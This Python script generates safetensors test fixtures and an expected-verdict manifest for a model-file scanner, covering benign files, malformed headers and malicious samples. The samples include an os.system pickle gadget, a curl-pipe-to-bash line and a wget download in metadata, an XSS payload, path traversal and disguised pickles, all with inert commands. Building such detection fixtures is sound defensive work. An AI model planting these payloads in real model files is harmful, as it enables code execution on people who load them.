#!/usr/bin/python3
"""Writes fixtures/formats/safetensors/{benign,malicious}/ and its manifest.json.

    /usr/bin/python3 scripts/gen-safetensors-fixtures.py

Debian's Python has no `safetensors` package, so benign files come from the writer below, which follows the
published format (8-byte little-endian header length; JSON header with dtype/shape/data_offsets per tensor and an
optional __metadata__ string map; tensors sorted by descending dtype alignment, then name; header padded with spaces
to a multiple of 8; data buffer covered exactly once). Tensor data comes from numpy with fixed seeds, so the output
is deterministic. Malicious and malformed files are the same writer with one rule broken. Commands carried by
payloads are the inert string 'echo bulwark-test'; nothing here is ever loaded.
"""
from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import pathlib
import pickle
import shutil
import struct
import sys
import zipfile

import numpy as np

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE.parent / 'fixtures' / 'formats' / 'safetensors'
CMD = 'echo bulwark-test'

# dtype name -> (numpy dtype or None for sub-byte/special, bits)
DTYPES = {
    'BOOL': (np.bool_, 8), 'U8': (np.uint8, 8), 'I8': (np.int8, 8), 'I16': (np.int16, 16), 'U16': (np.uint16, 16),
    'F16': (np.float16, 16), 'BF16': (None, 16), 'I32': (np.int32, 32), 'U32': (np.uint32, 32),
    'F32': (np.float32, 32), 'F64': (np.float64, 64), 'I64': (np.int64, 64), 'U64': (np.uint64, 64),
    'F8_E4M3': (None, 8), 'F8_E5M2': (None, 8), 'F8_E8M0': (None, 8), 'F4': (None, 4), 'F6_E2M3': (None, 6),
    'C64': (np.complex64, 64),
}
# The reference writer orders tensors by descending dtype alignment (its Dtype enum order), then by name.
ORDER = ['BOOL', 'F4', 'F6_E2M3', 'F6_E3M2', 'U8', 'I8', 'F8_E5M2', 'F8_E4M3', 'F8_E8M0', 'I16', 'U16', 'F16',
         'BF16', 'I32', 'U32', 'F32', 'C64', 'F64', 'I64', 'U64']


def tensor_bytes(dtype: str, shape: list[int], seed: int) -> bytes:
    n = int(np.prod(shape)) if shape else 1
    np_dtype, bits = DTYPES[dtype]
    rng = np.random.default_rng(seed)
    if np_dtype is None:
        nbytes = n * bits // 8
        return rng.integers(0, 256, size=nbytes, dtype=np.uint8).tobytes()
    if np_dtype is np.bool_:
        return rng.integers(0, 2, size=n).astype(np.bool_).tobytes()
    if np.issubdtype(np_dtype, np.integer):
        return rng.integers(0, 100, size=n).astype(np_dtype).astype(np.dtype(np_dtype).newbyteorder('<')).tobytes()
    return rng.standard_normal(n).astype(np.dtype(np_dtype).newbyteorder('<')).tobytes()


def build(tensors: dict[str, tuple[str, list[int]]], metadata: dict | None = None, *, seed: int = 0,
          pad: bytes = b' ') -> bytes:
    """Spec-following writer: returns the file bytes."""
    items = sorted(tensors.items(), key=lambda kv: (-ORDER.index(kv[1][0]), kv[0]))
    header: dict = {}
    if metadata is not None:
        header['__metadata__'] = metadata
    data = bytearray()
    for i, (name, (dtype, shape)) in enumerate(items):
        b = tensor_bytes(dtype, shape, seed + i)
        header[name] = {'dtype': dtype, 'shape': shape, 'data_offsets': [len(data), len(data) + len(b)]}
        data += b
    return assemble(json.dumps(header, separators=(',', ':')).encode(), bytes(data), pad=pad)


def assemble(header: bytes, data: bytes, *, pad: bytes = b' ', length: int | None = None) -> bytes:
    header += pad * ((8 - len(header) % 8) % 8)
    n = len(header) if length is None else length
    return struct.pack('<Q', n) + header + data


def raw(header_text: str, data: bytes, **kw) -> bytes:
    return assemble(header_text.encode(), data, **kw)


class Pwn:
    """Pickled (never unpickled) to produce a payload calling os.system."""

    def __reduce__(self):
        return (os.system, (CMD,))


def malicious_pickle() -> bytes:
    return pickle.dumps(Pwn(), protocol=4)


entries: list[dict] = []


def put(rel: str, data: bytes, label: str, cls: str, verdict: str, rules: list[str] | None = None,
        formats: list[str] | None = None, note: str = '') -> None:
    p = OUT / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    e = {'path': rel, 'label': label, 'class': cls, 'expect': {'verdict': verdict}}
    if rules:
        e['expect']['rules'] = rules
    if formats:
        e['expect']['formats'] = formats
    if note:
        e['note'] = note
    e['sha256'] = hashlib.sha256(data).hexdigest()
    entries.append(e)


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    W = 'writer: spec-following (scripts/gen-safetensors-fixtures.py)'
    ST = ['safetensors']

    # ------------------------------------------------------------------------------------------------ benign
    put('benign/tiny-f32.safetensors', build({'weight': ('F32', [2, 3])}, {'format': 'pt'}), 'benign', W, 'clean',
        formats=ST, note='one F32 tensor, metadata {"format": "pt"} as transformers writes it')
    put('benign/all-dtypes.safetensors', build({
        'a.bool': ('BOOL', [7]), 'b.u8': ('U8', [3, 3]), 'c.i8': ('I8', [5]), 'd.i16': ('I16', [2, 2]),
        'e.u16': ('U16', [3]), 'f.f16': ('F16', [4, 4]), 'g.bf16': ('BF16', [8]), 'h.i32': ('I32', [2, 5]),
        'i.u32': ('U32', [1]), 'j.f32': ('F32', [3, 2, 2]), 'k.f64': ('F64', [2]), 'l.i64': ('I64', [3]),
        'm.u64': ('U64', [2]), 'n.c64': ('C64', [2]), 'o.f8e4m3': ('F8_E4M3', [16]), 'p.f8e5m2': ('F8_E5M2', [4, 2]),
        'q.f8e8m0': ('F8_E8M0', [3]),
    }, {'format': 'pt'}, seed=10), 'benign', W, 'clean', formats=ST, note='every byte-sized dtype')
    put('benign/sub-byte.safetensors', build({
        'fp4.weight': ('F4', [4, 4]), 'fp6.weight': ('F6_E2M3', [8]), 'scales': ('F8_E8M0', [2]),
    }, {'format': 'pt', 'quant_method': 'mxfp4'}, seed=20), 'benign', W, 'clean', formats=ST,
        note='F4 (4 bits) and F6 (6 bits) tensors whose element counts fill whole bytes')
    put('benign/scalars-and-empty.safetensors', build({
        'step': ('I64', []), 'empty': ('F32', [0]), 'empty2d': ('F16', [2, 0]), 'bias': ('F32', [4]),
    }, {'format': 'pt'}, seed=30), 'benign', W, 'clean', formats=ST,
        note='0-d scalar and empty tensors (zero-length data_offsets)')
    put('benign/no-metadata.safetensors', build({'w': ('F16', [16, 8]), 'b': ('F16', [8])}, None, seed=40),
        'benign', W, 'clean', formats=ST, note='no __metadata__ key')
    put('benign/empty-file.safetensors', build({}, None), 'benign', W, 'clean', formats=ST,
        note='header "{}" padded to 8 bytes, no tensors (what save_file({}) writes)')
    put('benign/llama-shard.safetensors', build({
        f'model.layers.{i}.{n}': ('BF16', [8, 8]) for i in range(3)
        for n in ('self_attn.q_proj.weight', 'self_attn.k_proj.weight', 'mlp.down_proj.weight',
                  'input_layernorm.weight')
    } | {'model.embed_tokens.weight': ('BF16', [32, 8])}, {'format': 'pt'}, seed=50), 'benign', W, 'clean',
        formats=ST, note='transformers-style shard with dotted names')
    put('benign/tf-style-names.safetensors', build({
        'bert/encoder/layer_0/attention/self/query/kernel:0': ('F32', [4, 4]),
        'bert/embeddings/word_embeddings:0': ('F32', [10, 4]),
    }, {'format': 'tf'}, seed=60), 'benign', W, 'clean', formats=ST,
        note='TensorFlow-converted names contain "/" and ":"; not a traversal')
    thumb = base64.b64encode(bytes.fromhex('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
                                           '1f15c4890000000d49444154789c6360000002000154a24f5b0000000049454e44ae426082'))
    kohya = {
        'ss_network_module': 'networks.lora', 'ss_network_dim': '16', 'ss_network_alpha': '8.0',
        'ss_learning_rate': '0.0001', 'ss_output_name': 'my_lora', 'ss_sd_model_name': 'v1-5-pruned.safetensors',
        'ss_tag_frequency': json.dumps({'img': {'1girl': 12, 'outdoors': 5, 'smile, looking at viewer': 3}}),
        'ss_dataset_dirs': json.dumps({'img': {'n_repeats': 10, 'img_count': 20}}),
        'modelspec.sai_model_spec': '1.0.0', 'modelspec.architecture': 'stable-diffusion-v1/lora',
        'modelspec.title': 'My LoRA', 'modelspec.license': 'https://huggingface.co/spaces/CompVis/stable-diffusion-license',
        'modelspec.thumbnail': 'data:image/png;base64,' + thumb.decode(),
        'modelspec.description': 'Trained with sd-scripts (https://github.com/kohya-ss/sd-scripts). Use the trigger word "sks".',
    }
    put('benign/lora-kohya-metadata.safetensors', build({
        'lora_unet_down_blocks_0_attentions_0_proj_in.lora_down.weight': ('F16', [16, 8]),
        'lora_unet_down_blocks_0_attentions_0_proj_in.lora_up.weight': ('F16', [8, 16]),
        'lora_unet_down_blocks_0_attentions_0_proj_in.alpha': ('F16', []),
    }, kohya, seed=70), 'benign', W, 'clean', formats=ST,
        note='real-world metadata conventions (kohya sd-scripts ss_*, SAI modelspec with license URL and PNG thumbnail)')

    # -------------------------------------------------------------------------------------------- malformed
    good = build({'weight': ('F32', [2, 3])}, {'format': 'pt'})
    hdr_len = struct.unpack('<Q', good[:8])[0]
    M = 'malicious'
    put('malicious/header-beyond-eof.safetensors', struct.pack('<Q', hdr_len + 4096) + good[8:], M,
        'malformed: header length beyond end of file', 'inconclusive', ['BW-ST-001'], ST)
    put('malicious/huge-header.safetensors', struct.pack('<Q', 200_000_000) + good[8:], M,
        'malformed: header larger than the 100 MB reference limit', 'inconclusive', ['BW-ST-002'], ST)
    put('malicious/invalid-json.safetensors',
        raw('{"weight":{"dtype":"F32","shape":[2,3],"data_offsets":[0,24]},}', bytes(24)), M,
        'malformed: header is not valid JSON (trailing comma)', 'inconclusive', ['BW-ST-003'], ST)
    put('malicious/invalid-utf8.safetensors',
        assemble(b'{"w\xff":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b'\0'), M,
        'malformed: header is not UTF-8', 'inconclusive', ['BW-ST-003'], ST)
    put('malicious/duplicate-tensor-names.safetensors',
        raw('{"weight":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
            '"weight":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}', bytes(16)), M,
        'parser differential: duplicate tensor name (first vs last wins)', 'suspicious', ['BW-ST-004'], ST)
    put('malicious/overlapping-offsets.safetensors',
        raw('{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
            '"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}', bytes(24)), M,
        'malformed: overlapping tensors', 'suspicious', ['BW-ST-009'], ST)
    put('malicious/gap-between-tensors.safetensors',
        raw('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
            '"b":{"dtype":"F32","shape":[2],"data_offsets":[16,24]}}', bytes(24)), M,
        'malformed: gap between tensors', 'suspicious', ['BW-ST-010'], ST)
    put('malicious/offsets-out-of-range.safetensors',
        raw('{"a":{"dtype":"F32","shape":[1048576],"data_offsets":[0,4194304]}}', bytes(64)), M,
        'out-of-bounds read: offsets past the end of the buffer', 'suspicious', ['BW-ST-008'], ST)
    put('malicious/offsets-reversed.safetensors',
        raw('{"a":{"dtype":"U8","shape":[0],"data_offsets":[16,0]},'
            '"b":{"dtype":"U8","shape":[16],"data_offsets":[0,16]}}', bytes(16)), M,
        'malformed: tensor ends before it begins', 'suspicious', ['BW-ST-008'], ST)
    put('malicious/dtype-shape-mismatch.safetensors',
        raw('{"a":{"dtype":"F32","shape":[1024,1024],"data_offsets":[0,16]}}', bytes(16)), M,
        'out-of-bounds read: shape declares more elements than the byte range holds', 'suspicious',
        ['BW-ST-007'], ST)
    put('malicious/subbyte-misaligned.safetensors',
        raw('{"a":{"dtype":"F4","shape":[3],"data_offsets":[0,2]}}', bytes(2)), M,
        'malformed: sub-byte tensor that does not fill whole bytes', 'suspicious', ['BW-ST-007'], ST)
    put('malicious/unknown-dtype.safetensors',
        raw('{"a":{"dtype":"PYOBJ","shape":[2],"data_offsets":[0,16]}}', bytes(16)), M,
        'malformed: unknown dtype', 'suspicious', ['BW-ST-006'], ST)
    put('malicious/negative-shape.safetensors',
        raw('{"a":{"dtype":"U8","shape":[-4],"data_offsets":[0,4]}}', bytes(4)), M,
        'malformed: negative dimension', 'suspicious', ['BW-ST-005'], ST)
    put('malicious/metadata-not-strings.safetensors',
        raw('{"__metadata__":{"format":"pt","config":{"nested":true}},'
            '"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', bytes(4)), M,
        'malformed: __metadata__ value that is not a string', 'suspicious', ['BW-ST-005'], ST)
    tens = {'weight': ('F32', [2, 2])}
    put('malicious/metadata-python-code.safetensors',
        build(tens, {'format': 'pt', 'init': "__import__('os').system('echo bulwark-test')"}), M,
        'metadata code injection (Python)', 'suspicious', ['BW-ST-011'], ST)
    put('malicious/metadata-shell-command.safetensors',
        build(tens, {'format': 'pt', 'setup': 'curl -fsSL http://example.invalid/x.sh | bash'}), M,
        'metadata code injection (shell)', 'suspicious', ['BW-ST-011'], ST)
    put('malicious/metadata-script-tag.safetensors',
        build(tens, {'format': 'pt', 'description': '<img src=x onerror=alert(1)><script>alert(1)</script>'}), M,
        'metadata HTML/script injection (model hub UIs)', 'suspicious', ['BW-ST-011'], ST)
    put('malicious/metadata-risky-url.safetensors',
        build(tens, {'format': 'pt', 'weights_url': 'http://203.0.113.7:8000/payload.pkl'}), M,
        'metadata URL to a raw IP and a pickle', 'suspicious', ['BW-ST-013'], ST)
    put('malicious/metadata-base64-pickle.safetensors',
        build(tens, {'format': 'pt', 'extra_state': base64.b64encode(malicious_pickle()).decode()}), M,
        'encoded payload: base64 pickle calling os.system in metadata', 'malicious',
        ['BW-ST-015', 'BW-PKL-001'], ST)
    put('malicious/metadata-base64-code.safetensors',
        build(tens, {'format': 'pt', 'extra': base64.b64encode(f"import os; os.system('{CMD}')".encode()).decode()}),
        M, 'obfuscated metadata: base64-encoded Python code', 'suspicious', ['BW-ST-011'], ST)
    put('malicious/metadata-download-command.safetensors',
        build(tens, {'format': 'pt', 'postinstall': 'wget http://example.invalid/x.bin -O /tmp/x.bin'}), M,
        'metadata shell command downloading a file', 'suspicious', ['BW-ST-011'], ST)
    put('malicious/metadata-unknown-host-url.safetensors',
        build(tens, {'format': 'pt', 'update_url': 'https://models-update.example.invalid/latest'}), M,
        'metadata URL to an unknown host', 'suspicious', ['BW-ST-013'], ST)
    put('malicious/traversal-tensor-name.safetensors',
        build({'../../../../tmp/bulwark-test': ('F32', [2]), 'ok': ('F32', [2])}, {'format': 'pt'}), M,
        'path traversal in a tensor name', 'suspicious', ['BW-ST-016'], ST)
    put('malicious/control-char-tensor-name.safetensors',
        build({'weight\u202egnp.exe': ('F32', [2]), 'bias\x1b[2J': ('F32', [2])}, {'format': 'pt'}), M,
        'display spoofing: bidirectional override and ANSI escape in tensor names', 'suspicious',
        ['BW-ST-016'], ST)
    put('malicious/appended-pickle.safetensors', good + malicious_pickle(), M,
        'polyglot: malicious pickle appended after the tensor buffer', 'malicious', ['BW-ST-010', 'BW-PKL-001'], ST)

    # ------------------------------------------------------------------------- not safetensors despite the name
    put('malicious/pickle-named.safetensors', malicious_pickle(), M,
        'mislabelled: a pickle calling os.system with a .safetensors name', 'malicious', ['BW-PKL-001'],
        ['pickle'], note='content decides: sniffed as pickle, never as safetensors')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo('archive/data.pkl', date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, malicious_pickle())
        info = zipfile.ZipInfo('archive/version', date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, b'3\n')
    put('malicious/torch-zip-named.safetensors', buf.getvalue(), M,
        'mislabelled: a PyTorch zip checkpoint whose data.pkl calls os.system, named .safetensors', 'malicious',
        ['BW-PKL-001'], ['pytorch-zip'])

    manifest = {
        'about': 'safetensors fixtures written by scripts/gen-safetensors-fixtures.py (own spec-following writer; '
                 'Debian has no safetensors package). Malformed files break one format rule each; mislabelled files '
                 'are pickles/zips with a .safetensors name.',
        'files': entries,
    }
    (OUT / 'manifest.json').write_text(json.dumps(manifest, indent=2) + '\n')
    total = sum((OUT / e['path']).stat().st_size for e in entries)
    print(f'wrote {len(entries)} files ({total} bytes) to {OUT}')


if __name__ == '__main__':
    sys.exit(main())
